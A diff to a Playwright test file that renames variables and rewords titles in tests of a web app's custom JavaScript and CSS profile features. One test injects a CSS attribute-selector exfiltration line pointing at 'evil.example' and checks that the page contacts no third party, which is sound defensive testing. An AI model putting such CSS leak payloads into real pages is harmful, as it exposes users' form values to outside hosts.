@@ -33,7 +33,7 @@ async function openApp(page: Page, { email, password, token }: Member): Promise<
   return app;
 }
 
-/** Waits until the code is through with all it tries, and answers what it got. */
+/** Waits until the code is through with all it tries, and returns what it got. */
 async function loot(page: Pick<Page, "locator">): Promise<unknown> {
   const root = page.locator("html");
   await expect(root).toHaveAttribute("data-got", /.*/, { timeout: LONG_MS });
@@ -165,7 +165,10 @@ test("an owner who looks at their page with custom JavaScript is known there, an
   expect(await page.locator('link[rel="canonical"]').getAttribute("href")).toBe(page.url());
 });
 
-test("custom CSS draws, and ends no element, runs no script and asks no stranger", async ({ page, request }) => {
+test("custom CSS draws, and closes no element, runs no script and contacts no third party", async ({
+  page,
+  request,
+}) => {
   const owner = await newMember(request);
   await giveAppearance(request, owner, {
     custom_css: [
@@ -177,12 +180,12 @@ test("custom CSS draws, and ends no element, runs no script and asks no stranger
       "input[value^=a]{background:url(https://evil.example/leak?a)}",
     ].join("\n"),
   });
-  const asked: string[] = [];
-  page.on("request", (each) => each.method() === "GET" && asked.push(new URL(each.url()).host));
-  const answer = await page.goto(`/${owner.username}`);
+  const requests: string[] = [];
+  page.on("request", (each) => each.method() === "GET" && requests.push(new URL(each.url()).host));
+  const response = await page.goto(`/${owner.username}`);
   await expect(page.getByRole("heading", { level: 1 })).toHaveCSS("color", "rgb(1, 2, 3)");
   expect(await page.locator("html").getAttribute("data-ran")).toBeNull();
-  expect(new Set(asked)).toEqual(new Set([new URL(page.url()).host]));
-  expect(asked.length).toBeLessThanOrEqual(3);
-  expect(answer!.headers()["content-security-policy"]).not.toMatch(/sandbox|unsafe/);
+  expect(new Set(requests)).toEqual(new Set([new URL(page.url()).host]));
+  expect(requests.length).toBeLessThanOrEqual(3);
+  expect(response!.headers()["content-security-policy"]).not.toMatch(/sandbox|unsafe/);
 });
